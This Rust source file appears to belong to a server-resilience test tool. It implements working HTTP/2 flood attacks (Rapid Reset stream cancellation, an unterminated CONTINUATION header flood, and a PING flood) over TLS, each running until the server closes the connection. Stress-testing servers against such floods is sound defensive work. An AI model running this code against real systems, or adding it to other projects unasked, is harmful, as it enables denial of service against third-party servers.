//! HTTP/2 floods of `--hostile`, frame by frame (RFC 9113).

use std::io::Result;

use testkit::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, block, frame, request,
};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use crate::attacks::Attack;
use crate::wire;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// CANCEL.
const TAKEN_BACK: [u8; 4] = [0, 0, 0, 8];
/// Frames that are sent at once.
const PIECE: usize = 50;

/// Floods one connection until the server ends it.
pub(crate) async fn flood(attack: Attack, stream: &mut TcpStream, tls: &TlsConnector) -> Result<()> {
    let stream = tls.connect(wire::host()?, stream).await?;
    let (mut read, mut write) = tokio::io::split(stream);
    let listen = async { tokio::io::copy(&mut read, &mut tokio::io::sink()).await.map(drop) };
    let send = async {
        write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &first(attack)].concat()).await?;
        for start in (0_u32..).step_by(PIECE) {
            let piece: Vec<u8> = (start..).take(PIECE).flat_map(|n| nth(attack, n)).collect();
            write.write_all(&piece).await?;
            write.flush().await?;
        }
        Ok(())
    };
    tokio::select! {
        ended = listen => ended,
        failed = send => failed,
    }
}

/// What a flood begins with.
fn first(attack: Attack) -> Vec<u8> {
    match attack {
        Attack::Continuation => frame(HEADERS, END_STREAM, 1, &read_time()),
        _ => Vec::new(),
    }
}

/// What it sends for the n-th time.
fn nth(attack: Attack, n: u32) -> Vec<u8> {
    let stream = 2 * n + 1;
    match attack {
        Attack::RapidReset => {
            let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &read_time());
            [request, frame(RST_STREAM, 0, stream, &TAKEN_BACK)].concat()
        }
        Attack::Continuation => frame(CONTINUATION, 0, 1, &block(&[("x", "y")])),
        _ => frame(PING, 0, 0, &u64::from(n).to_be_bytes()),
    }
}

fn read_time() -> Vec<u8> {
    block(&request("GET", "/v1/time"))
}
